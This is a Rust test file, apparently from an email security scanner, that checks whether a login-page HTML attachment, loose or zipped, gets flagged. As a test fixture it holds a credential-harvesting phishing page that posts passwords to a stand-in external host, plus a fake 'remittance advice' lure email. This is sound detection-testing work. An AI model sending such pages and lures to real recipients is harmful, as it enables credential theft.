//! A login page delivered as a file: an HTML attachment, loose or zipped,
//! whose form asks for a password. The body scanner never sees it; the
//! attachment inspection must (the red team's `zip` operator evaded
//! outwork until it did).

// Test helpers (outside #[test] functions) may unwrap too: a panic is
// the failure report.
#![allow(clippy::unwrap_used)]

use base64::Engine as _;
use outwork_core::Action;
use std::io::Write;

const PAGE: &str = "<!DOCTYPE html><html><body><h2>Document Viewer</h2><p>Sign in to view this document.</p>\
<form method=\"post\" action=\"https://docs-viewer-login.example/collect\">\
<input type=\"email\" name=\"login\"><input type=\"password\" name=\"passwd\">\
<button type=\"submit\">Sign in</button></form></body></html>";

const HARMLESS: &str = "<!DOCTYPE html><html><body><h2>Agenda</h2><form action=\"https://example.org/search\"><input type=\"text\" name=\"q\"></form></body></html>";

fn zip_with(name: &str, content: &[u8]) -> Vec<u8> {
    let mut buf = std::io::Cursor::new(Vec::new());
    {
        let mut z = zip::ZipWriter::new(&mut buf);
        z.start_file(name, zip::write::SimpleFileOptions::default())
            .unwrap();
        z.write_all(content).unwrap();
        z.finish().unwrap();
    }
    buf.into_inner()
}

fn message(name: &str, ctype: &str, data: &[u8]) -> Vec<u8> {
    let b64 = base64::engine::general_purpose::STANDARD.encode(data);
    format!(
        "From: Accounts <accounts@vendor-billing.example>\r\nTo: staff@northwind.example\r\nSubject: Remittance advice\r\nDate: Thu, 26 Nov 2026 08:00:00 +0000\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nPlease find the remittance advice attached.\r\n--b\r\nContent-Type: {ctype}; name=\"{name}\"\r\nContent-Disposition: attachment; filename=\"{name}\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{b64}\r\n--b--\r\n"
    )
    .into_bytes()
}

fn scan(msg: &[u8]) -> (Action, Vec<(&'static str, Vec<String>)>) {
    let v = scan_offline(msg);
    (
        v.action,
        v.symbols
            .iter()
            .map(|s| (s.name, s.evidence.clone()))
            .collect(),
    )
}

#[test]
fn zipped_login_page_is_flagged_with_where_it_posts() {
    let zip = zip_with("Remittance_8821.html", PAGE.as_bytes());
    let (action, syms) = scan(&message("Remittance_8821.zip", "application/zip", &zip));
    let form = syms
        .iter()
        .find(|(n, _)| *n == "ATTACH_CREDENTIAL_FORM")
        .unwrap_or_else(|| panic!("{syms:?}"));
    assert!(
        form.1[0].contains("Remittance_8821.zip!Remittance_8821.html")
            && form.1[0].contains("https://docs-viewer-login.example/collect"),
        "{form:?}"
    );
    assert_ne!(action, Action::Accept, "{syms:?}");
}

#[test]
fn loose_login_page_is_flagged_and_a_search_form_is_not() {
    let (_, syms) = scan(&message("view.html", "text/html", PAGE.as_bytes()));
    assert!(
        syms.iter().any(|(n, _)| *n == "ATTACH_CREDENTIAL_FORM"),
        "{syms:?}"
    );
    let (_, syms) = scan(&message("agenda.html", "text/html", HARMLESS.as_bytes()));
    assert!(
        !syms.iter().any(|(n, _)| *n == "ATTACH_CREDENTIAL_FORM"),
        "{syms:?}"
    );
}

/// A scan through the one pipeline, offline and with the default config.
fn scan_offline(raw: &[u8]) -> outwork_core::Verdict {
    outwork_engine::Scanner::offline(std::sync::Arc::new(outwork_core::Context::default()))
        .scan(raw, &Default::default(), &Default::default())
        .verdict
}
